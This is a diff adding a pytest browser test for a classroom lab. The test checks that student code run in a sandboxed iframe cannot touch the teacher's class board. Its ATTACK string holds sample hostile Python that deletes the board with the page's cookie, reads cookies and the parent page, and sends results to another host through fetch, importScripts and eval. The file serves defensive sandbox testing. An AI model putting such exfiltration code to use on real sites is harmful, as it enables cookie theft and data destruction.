@@ -1,0 +1,209 @@
+"""Students' code in a browser runs in the lab's sandbox (an ``<iframe sandbox="allow-scripts">`` of an opaque
+origin, under a policy that allows no network but the lab's files), whoever's page runs it: the student's
+own run, the teacher's class tournament, the teacher's check of the grades. A submitted e(P) that tries to
+delete the board with the page's cookie, to read the cookie or the page, or to load or send anything
+elsewhere finds none of it working, and the board is intact after.
+
+No CSP bypass in these browsers: the policies are what is tested (the waits are Playwright's locators,
+never its string expressions, which are an eval the pages forbid)."""
+
+from __future__ import annotations
+
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import TYPE_CHECKING, Any
+
+import httpx
+import pytest
+
+from inarow.web import browser as browser_side
+from inarow.web.lab import PYODIDE
+
+if TYPE_CHECKING:  # tests/web/conftest.py: pytest's module, for its type only
+    from conftest import Server
+
+pytestmark = [
+    pytest.mark.browser,
+    pytest.mark.slow,
+    pytest.mark.skipif(
+        not (PYODIDE / "pyodide.asm.wasm").is_file(), reason="Pyodide is not copied (scripts/copy_pyodide.py)"
+    ),
+]
+
+TOKEN = "T0ken-for-the-class"
+ZERO = "def e(board):\n    return 0\n"
+
+ATTACK = '''\
+import js
+from pyodide.ffi import to_js
+
+SERVER, ELSEWHERE = {server!r}, {elsewhere!r}
+worked = []
+tried = False
+
+
+def told(name):
+    """Tell the other host that ``name`` worked (which only works if the network is open)."""
+    js.fetch(f"{{ELSEWHERE}}/worked/{{name}}")
+
+
+def attempt(name, action):
+    try:
+        action()
+    except BaseException:
+        return
+    worked.append(name)
+    try:
+        told(name)
+    except BaseException:
+        pass
+
+
+def options(**fields):
+    return to_js(fields, dict_converter=js.Object.fromEntries)
+
+
+def deleted(url):
+    """fetch answers later: whatever it answers, the other host is told."""
+    answer = js.fetch(url, options(method="DELETE", credentials="include"))
+    answer.then(lambda reply: told(f"fetch-{{reply.status}}"))
+
+
+def sent(url):
+    request = js.XMLHttpRequest.new()
+    request.open("DELETE", url, False)
+    request.withCredentials = True
+    request.send()
+
+
+def e(board):
+    global tried
+    if not tried:
+        tried = True
+        attempt("fetch-relative", lambda: deleted("/api/class"))
+        attempt("fetch-server", lambda: deleted(f"{{SERVER}}/api/class"))
+        attempt("xhr", lambda: sent(f"{{SERVER}}/api/class"))
+        attempt("cookie", lambda: told("cookie-" + str(js.document.cookie)))
+        attempt("parent", lambda: told("parent-" + str(js.parent.document.title)))
+        attempt("import-scripts", lambda: js.importScripts(f"{{ELSEWHERE}}/loaded.js"))
+        attempt("eval", lambda: js.eval(f"fetch('{{ELSEWHERE}}/eval')"))
+        attempt("function", lambda: js.Function(f"fetch('{{ELSEWHERE}}/function')")())
+    return len([name for name in worked if not name.startswith("fetch")])
+'''
+"""An e(P) that tries, once per load, what a student's code must not do from a teacher's page, and
+returns how many of the attempts that answer at once did not fail (0 when none worked). Whatever gets
+through tells the other host."""
+
+
+class Elsewhere:
+    """Another host (a local HTTP server on a port of its own): every request that reaches it is kept."""
+
+    def __init__(self) -> None:
+        heard: list[str] = []
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                heard.append(f"{self.command} {self.path}")
+                self.send_response(200)
+                self.send_header("Access-Control-Allow-Origin", "*")
+                self.send_header("Content-Type", "text/javascript")
+                self.end_headers()
+                self.wfile.write(b"// nothing\n")
+
+            do_POST = do_DELETE = do_GET
+
+            def log_message(self, format: str, *args: Any) -> None:
+                pass
+
+        self.heard = heard
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[Elsewhere]:
+    host = Elsewhere()
+    yield host
+    host.close()
+
+
+@pytest.fixture
+def class_server(make_server: Any) -> Server:
+    server: Server = make_server(extra=("--token", TOKEN), headers={"X-Inarow-Token": TOKEN})
+    return server.start()
+
+
+def submit(server: Server, name: str, source: str, algorithm: str = "alphabeta", depth: int = 1) -> None:
+    """A submission as a browser sends it: the moves of ``source``'s search (every e(P) here returns a
+    constant, so they are the moves of e ≡ 0, chosen here by the very module the worker runs)."""
+    diagrams = httpx.get(f"{server.url}/api/lab/positions", headers=server.headers).json()["positions"]
+    browser_side.load("zero", ZERO)
+    body = {"name": name, "evaluation": "e", "algorithm": algorithm, "depth": depth, "source": source}
+    body |= browser_side.choose("zero", "tictactoe", diagrams, algorithm, depth)
+    answer = httpx.post(f"{server.url}/api/class", json=body, headers=server.headers, timeout=300)
+    assert answer.status_code == 200, answer.text
+
+
+def board_names(server: Server) -> list[str]:
+    rows = httpx.get(f"{server.url}/api/class", headers=server.headers).json()
+    return sorted(row["name"] for row in rows)
+
+
+def open_page(browser: Any, server: Server, path: str) -> tuple[Any, Any, list[str]]:
+    """A page of ``server`` opened with its key (the cookie), under its own policies; the errors it raised."""
+    context = browser.new_context(viewport={"width": 1280, "height": 800})
+    page = context.new_page()
+    errors: list[str] = []
+    page.on("pageerror", lambda error: errors.append(str(error)))
+    page.goto(f"{server.url}/?token={TOKEN}")
+    page.goto(f"{server.url}{path}")
+    return context, page, errors
+
+
+def test_a_students_code_reaches_nothing_in_the_students_own_run(
+    browser: Any, class_server: Server, elsewhere: Elsewhere
+) -> None:
+    from playwright.sync_api import expect
+
+    submit(class_server, "Bo", ZERO)
+    attack = ATTACK.format(server=class_server.url, elsewhere=elsewhere.url)
+    context, page, errors = open_page(browser, class_server, "/?student=1")
+    page.get_by_test_id("student-code").fill(attack)
+    page.get_by_test_id("student-run").click()
+    expect(page.get_by_test_id("student-output")).to_have_text(
+        "e(.../.../...) = 0, from X's standpoint (Max)", timeout=120_000
+    )
+    frame = page.locator("iframe[sandbox]")
+    assert frame.count() == 1 and frame.get_attribute("sandbox") == "allow-scripts"
+    page.wait_for_timeout(1000)  # what the attempts sent would have arrived by now
+    context.close()
+    assert errors == []
+    assert elsewhere.heard == []
+    assert board_names(class_server) == ["Bo"]
+
+
+def test_a_submitted_e_reaches_nothing_during_the_teachers_tournament(
+    browser: Any, class_server: Server, elsewhere: Elsewhere
+) -> None:
+    from playwright.sync_api import expect
+
+    submit(class_server, "Ada", ATTACK.format(server=class_server.url, elsewhere=elsewhere.url))
+    submit(class_server, "Bo", ZERO)
+    context, page, errors = open_page(browser, class_server, "/class")
+    expect(page.get_by_test_id("class-row")).to_have_count(2)
+    page.get_by_test_id("class-tournament").click()
+    expect(page.locator("#class-cross tbody tr")).to_have_count(2, timeout=120_000)
+    expect(page.get_by_test_id("class-tournament")).to_be_enabled(timeout=120_000)
+    assert "error" not in (page.locator("#class-status").get_attribute("class") or "")
+    page.wait_for_timeout(1000)
+    context.close()
+    assert errors == []
+    assert elsewhere.heard == []
+    assert board_names(class_server) == ["Ada", "Bo"]
